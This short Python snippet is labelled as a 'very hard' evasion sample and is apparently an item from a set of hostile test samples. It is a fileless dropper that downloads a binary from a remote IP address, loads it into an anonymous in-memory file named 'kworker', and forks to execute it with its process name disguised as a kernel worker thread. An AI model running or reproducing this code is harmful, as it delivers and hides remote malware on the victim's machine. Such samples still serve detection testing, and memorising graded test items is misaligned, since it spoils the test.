# evasion: fileless dropper: a downloaded binary written to a memfd and executed through /proc/self/fd
# grade: very hard; does: download-exec
import os
import urllib.request

blob = urllib.request.urlopen("http://203.0.113.7/agent.bin", timeout=10).read()
fd = os.memfd_create("kworker", 0)
os.write(fd, blob)
path = "/proc/self/fd/%d" % fd
if os.fork() == 0:
    os.execv(path, ["[kworker/0:1]"])
